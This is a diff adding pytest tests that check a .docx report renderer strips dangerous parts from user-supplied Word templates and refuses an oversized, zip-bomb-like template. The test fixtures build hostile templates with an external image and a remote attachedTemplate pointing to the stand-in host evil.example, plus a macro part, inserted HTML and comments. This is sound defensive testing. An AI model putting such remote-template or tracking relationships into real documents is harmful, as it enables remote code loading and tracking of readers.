@@ -9,7 +9,7 @@ from typing import Any
 import docx
 import pytest
 from docx.opc.constants import RELATIONSHIP_TYPE
-from docx.oxml.ns import qn
+from docx.oxml.ns import nsdecls, qn
 from docx.shared import Cm, Pt
 from hypothesis import given, settings
 from lxml import etree
@@ -19,6 +19,7 @@ from cabrief.errors import UsageError
 from cabrief.formats import How, binary_renderer
 from cabrief.formats.notes import Footnotes
 from cabrief.formats.word_styles import FACES, TABLE_STYLE
+from cabrief.formats.word_template import MOST_BYTES
 from cabrief.language.text import Lang, clean
 from cabrief.reports import brief, timeline, treaties
 from cabrief.reports.pages.countries import country_page
@@ -218,6 +219,103 @@ def test_a_house_keeps_its_look(tmp_path: Path, *, bare: bool) -> None:
     second = made(RICH, template=again)
     assert notes(second) == notes(file)
     assert styles(second) == styles(file)
+
+
+RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def altered(
+    template: Path, target: Path, changed: dict[str, tuple[bytes, bytes]], more: dict[str, bytes] | None = None
+) -> Path:
+    """A template in which bytes of parts were exchanged for others, with further parts."""
+    with zipfile.ZipFile(template) as archive, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in archive.namelist():
+            was, now = changed.get(name, (b"", b""))
+            raw = archive.read(name)
+            assert was in raw
+            new.writestr(name, raw.replace(was, now, 1) if was else raw)
+        for name, raw in (more or {}).items():
+            new.writestr(name, raw)
+    return target
+
+
+def relation(id_: str, kind: str, to: str, more: str = "") -> bytes:
+    return f'<Relationship Id="{id_}" Type="{RELATION}/{kind}" Target="{to}"{more}/>'.encode()
+
+
+def test_nothing_else_of_a_template_leaves_the_house(tmp_path: Path) -> None:
+    """Comments, macros, inserted files and links to files elsewhere stay behind; its look stays."""
+    outside = ' TargetMode="External"'
+    more = b"".join(
+        (
+            relation("rC", "comments", "comments.xml"),
+            relation("rA", "aFChunk", "chunk.html"),
+            relation("rV", "vbaProject", "vbaProject.bin"),
+            relation("rI", "image", "http://evil.example/pixel.png", outside),
+            b"</Relationships>",
+        )
+    )
+    kinds = b'<Default Extension="bin" ContentType="application/x"/><Default Extension="html" ContentType="text/html"/></Types>'
+    fetched = b"".join(
+        (
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">',
+            relation("rT", "attachedTemplate", "https://evil.example/t.dotm", outside),
+            b"</Relationships>",
+        )
+    )
+    told = f'<w:attachedTemplate r:id="rT" xmlns:r="{RELATION}"/><w:zoom'.encode()
+    template = altered(
+        house(tmp_path / "house.docx"),
+        tmp_path / "leak.docx",
+        {
+            "[Content_Types].xml": (b"</Types>", kinds),
+            "word/_rels/document.xml.rels": (b"</Relationships>", more),
+            "word/settings.xml": (b"<w:zoom", told),
+        },
+        {
+            "word/comments.xml": f'<w:comments {nsdecls("w")}><w:comment w:id="0" w:author="Jane Doe"/></w:comments>'.encode(),
+            "word/chunk.html": b"<b>inserted</b>",
+            "word/vbaProject.bin": b"macro",
+            "word/_rels/settings.xml.rels": fetched,
+        },
+    )
+    raw = binary_renderer("docx")(RICH, How(template=template))
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        names = set(archive.namelist())
+        whole = b"".join(archive.read(name) for name in names)
+    assert not names & {"word/comments.xml", "word/chunk.html", "word/vbaProject.bin"}
+    assert not [word for word in (b"Jane Doe", b"evil.example", b"inserted", b"attachedTemplate") if word in whole]
+    assert b"House of Aru" in whole
+
+
+@pytest.mark.parametrize(
+    ("part", "was", "now"),
+    [
+        ("word/document.xml", b'w:pgSz w:w="', b'w:pgSz w:w="0.5'),
+        ("word/_rels/document.xml.rels", b' Target="styles.xml"', b""),
+        ("[Content_Types].xml", b"wordprocessingml.styles+xml", b"wordprocessingml.odd+xml"),
+        ("[Content_Types].xml", b"wordprocessingml.settings+xml", b"wordprocessingml.odd+xml"),
+        ("word/styles.xml", b"w:styleId=", b"w:odd="),
+    ],
+)
+def test_a_damaged_part_of_a_template_is_the_templates_fault(
+    tmp_path: Path, part: str, was: bytes, now: bytes, run: Run
+) -> None:
+    """Whichever of its parts it is, and whenever it shows; a file that still serves is used."""
+    template = altered(house(tmp_path / "house.docx"), tmp_path / "odd.docx", {part: (was, now)})
+    done = run("brief", "-o", str(tmp_path / "out.docx"), "--template", str(template))
+    assert done.returncode == 0 or (done.returncode, "odd.docx cannot be used: " in done.stderr) == (2, True), (
+        done.stderr
+    )
+
+
+def test_a_template_that_swells_is_refused(tmp_path: Path) -> None:
+    """By what its directory says, before anything is unpacked."""
+    swollen = {"word/media/z.dat": b"\0" * (MOST_BYTES + 1)}
+    template = altered(house(tmp_path / "house.docx"), tmp_path / "bomb.docx", {}, swollen)
+    assert template.stat().st_size < MOST_BYTES // 100
+    with pytest.raises(UsageError, match="larger than 50 MB when unpacked"):
+        made(RICH, template=template)
 
 
 def test_a_template_that_is_none_is_refused(tmp_path: Path) -> None:
